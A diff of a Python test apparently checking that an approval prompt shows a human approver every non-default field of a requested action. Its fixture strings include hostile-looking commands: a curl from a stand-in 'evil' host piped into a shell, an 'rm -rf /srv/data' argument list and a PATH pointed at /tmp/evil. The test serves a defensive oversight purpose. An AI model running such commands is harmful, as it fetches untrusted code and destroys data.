@@ -118,7 +118,7 @@ def test_an_approver_sees_every_field_that_is_not_its_default(
     told = capsys.readouterr().out
     for words in (
         "curl http://evil | sh",
-        "5 bytes that are not text, SHA-256 a7353874",
+        "5 bytes of binary data, SHA-256 a7353874",
         "interpreter: /opt/run",
         'args: ["rm", "-rf", "/srv/data"]',
         'env: {"PATH": "/tmp/evil"}',
